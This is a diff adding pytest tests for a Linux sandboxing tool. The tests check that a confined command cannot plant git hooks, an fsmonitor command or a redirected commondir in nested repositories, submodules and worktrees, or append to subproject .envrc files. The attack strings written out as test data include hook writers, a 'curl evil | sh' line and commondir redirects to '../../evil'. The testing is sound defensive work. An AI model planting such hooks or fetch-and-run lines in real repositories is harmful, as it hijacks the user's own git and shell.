@@ -399,3 +399,156 @@ def test_a_placeholder_that_cannot_be_made_refuses_the_run(jail: Path, tmp_path:
 def test_protect_missing_is_checked(jail: Path) -> None:
     r = run_cli(jail, "true", extra=["--protect-missing", "always"])
     assert r.returncode != 0 and "--protect-missing" in r.stderr.decode(), show(r)
+
+
+# --- below the top level: nested repositories, submodules, worktrees, subprojects ----------
+
+def _attack_statuses(r: subprocess.CompletedProcess) -> dict[str, str]:
+    assert r.returncode == 0, show(r)
+    return _statuses(out(r))
+
+
+@pytest.mark.parametrize("allowed", [False, True], ids=["protected", "allowed"])
+def test_a_nested_repository_is_protected(jail: Path, allowed: bool) -> None:
+    """A vendored repository two levels down: its hooks and config are the user's next
+    `git commit` there. Negative control: the opt-out by name covers nested ones too."""
+    repo = _repo(jail)
+    (repo / "lib" / "vendored").mkdir(parents=True)
+    sub = _repo(repo / "lib" / "vendored")
+    config = (sub / ".git" / "config").read_bytes()
+    extra = ["--allow-write-protected", ".git/hooks",
+             "--allow-write-protected", ".git/config"] if allowed else []
+    r = run_cli(repo, "sh", "-c", "cd lib/vendored && " + PLANT, extra=[*_envs(), *extra])
+    want = "ok" if allowed else "denied"
+    assert _attack_statuses(r) == {"hook": want, "fsmonitor": want, "append": want}, show(r)
+    assert (sub / ".git" / "hooks" / "pre-commit").exists() == allowed
+    assert ((sub / ".git" / "config").read_bytes() == config) != allowed
+
+
+#: A submodule's git directory lives in the superproject's .git/modules: its config's
+#: fsmonitor runs on `git status` there; its missing commondir would redirect it.
+SUBMODULE = r"""
+git -C lib config core.fsmonitor 'touch pwned-by-fsmonitor; false' 2>/dev/null \
+  && echo fsmonitor=ok || echo fsmonitor=denied
+printf '#!/bin/sh\ntouch pwned-by-hook\n' > .git/modules/lib/hooks/post-checkout 2>/dev/null \
+  && echo hook=ok || echo hook=denied
+echo ../../evil > .git/modules/lib/commondir && echo commondir=written || echo commondir=denied
+"""
+
+
+@pytest.mark.parametrize("allowed", [False, True], ids=["protected", "allowed"])
+def test_a_submodules_git_directory_is_protected(jail: Path, allowed: bool) -> None:
+    repo = _repo(jail)
+    (repo / "lib").mkdir()
+    (repo / ".git" / "modules").mkdir()
+    made = _git(repo / "lib", "init", "-q", f"--separate-git-dir={repo}/.git/modules/lib")
+    assert made.returncode == 0, made
+    assert (repo / "lib" / ".git").is_file()  # the layout `git submodule` makes
+    extra = ["--allow-write-protected", ".git/config", "--allow-write-protected", ".git/hooks",
+             "--allow-write-protected", ".git/commondir"] if allowed else []
+    r = run_cli(repo, "sh", "-c", SUBMODULE, extra=[*_envs(), *extra])
+    statuses = _attack_statuses(r)
+    commondir = repo / ".git" / "modules" / "lib" / "commondir"
+    if allowed:  # negative control: every write lands, and git on the host runs the command
+        assert statuses == {"fsmonitor": "ok", "hook": "ok", "commondir": "written"}, show(r)
+        assert commondir.exists()
+        commondir.unlink()  # the redirect would hide the planted config from the host's git
+        _git(repo / "lib", "status")
+        assert (repo / "lib" / "pwned-by-fsmonitor").exists()
+    else:  # the commondir could be written (a missing name): it is gone after the run
+        assert statuses == {"fsmonitor": "denied", "hook": "denied",
+                            "commondir": "written"}, show(r)
+        assert not commondir.exists()
+        assert not (repo / ".git" / "modules" / "lib" / "hooks" / "post-checkout").exists()
+        _git(repo / "lib", "status")
+        assert not (repo / "lib" / "pwned-by-fsmonitor").exists()
+
+
+def test_a_worktrees_commondir_cannot_be_redirected(jail: Path, tmp_path: Path) -> None:
+    """A linked worktree reads .git/worktrees/NAME/commondir to find its config and hooks:
+    rewritten, the user's git in the worktree would use a repository the run planted."""
+    repo = _repo(jail)
+    made = _git(repo, "worktree", "add", "-q", str(repo / "wt"))
+    assert made.returncode == 0, made
+    commondir = repo / ".git" / "worktrees" / "wt" / "commondir"
+    before = commondir.read_bytes()
+    receipt = tmp_path / "r.json"
+    r = run_cli(repo, "sh", "-c", "echo ../../../evil > .git/worktrees/wt/commondir "
+                "&& echo commondir=ok || echo commondir=denied",
+                extra=["--receipt", receipt])
+    assert _attack_statuses(r) == {"commondir": "denied"}, show(r)
+    assert commondir.read_bytes() == before
+    assert read_receipt(receipt)["protected"][str(commondir)] == "read-only bind"
+    # negative control: unconfined, the same write lands
+    subprocess.run(["sh", "-c", "echo ../../../evil > .git/worktrees/wt/commondir"],
+                   cwd=repo, check=True)
+    assert commondir.read_bytes() != before
+
+
+#: Writes an existing .envrc at each depth; reports which landed.
+DEPTHS = r"""
+for d in a a/b a/b/c a/b/c/d; do
+  echo 'curl evil | sh' >> $d/.envrc 2>/dev/null && echo $d=ok || echo $d=denied
+done
+"""
+
+
+@pytest.mark.parametrize("depth", [None, 0, 1], ids=["default", "top-only", "one"])
+def test_existing_names_are_protected_down_to_protect_depth(jail: Path, tmp_path: Path,
+                                                            depth: int | None) -> None:
+    """A subproject's .envrc (direnv runs it on `cd`) down to protect_depth levels (default
+    3): read-only; below it (and at depth 0 below the top) the same write lands."""
+    for d in ("a", "a/b", "a/b/c", "a/b/c/d"):
+        (jail / d).mkdir(parents=True, exist_ok=True)
+        (jail / d / ".envrc").write_text("export A=1\n")
+    extra = [] if depth is None else ["--protect-depth", str(depth)]
+    receipt = tmp_path / "r.json"
+    r = run_cli(jail, "sh", "-c", DEPTHS, extra=[*extra, "--receipt", receipt])
+    limit = 3 if depth is None else depth
+    want = {d: "denied" if d.count("/") + 1 <= limit else "ok"
+            for d in ("a", "a/b", "a/b/c", "a/b/c/d")}
+    assert _attack_statuses(r) == want, show(r)
+    protected = read_receipt(receipt)["protected"]
+    for d, status in want.items():
+        changed = (jail / d / ".envrc").read_text() != "export A=1\n"
+        assert changed == (status == "ok"), d
+        assert (protected.get(str(jail / d / ".envrc")) == "read-only bind") == \
+            (status == "denied"), (d, protected)
+
+
+def test_the_search_does_not_enter_a_symlink_or_a_dependency_tree(jail: Path,
+                                                                  tmp_path: Path,
+                                                                  outside: Path) -> None:
+    (outside / ".envrc").write_text("x\n")
+    (jail / "link").symlink_to(outside)
+    (jail / "node_modules" / "pkg").mkdir(parents=True)
+    (jail / "node_modules" / "pkg" / ".envrc").write_text("x\n")
+    receipt = tmp_path / "r.json"
+    r = run_cli(jail, "true", extra=["--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    protected = read_receipt(receipt)["protected"]
+    assert not [p for p in protected if "/link/" in p or "node_modules" in p], protected
+
+
+def test_a_search_over_budget_says_where_it_stopped(jail: Path, tmp_path: Path) -> None:
+    from hcp_linux.policy.protected import SEARCH_BUDGET
+    many = jail / "many"
+    many.mkdir()
+    for i in range(SEARCH_BUDGET + 8):
+        (many / f"d{i:05}").mkdir()
+    (jail / "a").mkdir()
+    (jail / "a" / ".envrc").write_text("export A=1\n")  # listed before "many": protected
+    receipt = tmp_path / "r.json"
+    r = run_cli(jail, "sh", "-c", "echo x >> a/.envrc", extra=["--receipt", receipt])
+    assert r.returncode != 0 and (jail / "a" / ".envrc").read_text() == "export A=1\n", show(r)
+    stopped = read_receipt(receipt)["protected_search"]
+    assert stopped[str(jail)].startswith(f"stopped after {SEARCH_BUDGET} directories"), stopped
+
+
+@pytest.mark.parametrize("value", ["-1", "17", "two"])
+def test_protect_depth_is_checked(jail: Path, value: str) -> None:
+    proof = jail / "ran"
+    r = run_cli(jail, "touch", str(proof), extra=[f"--protect-depth={value}"])
+    line = single_error_line(r)
+    assert r.returncode != 0 and "protect-depth" in line.replace("_", "-"), show(r)
+    assert not proof.exists()
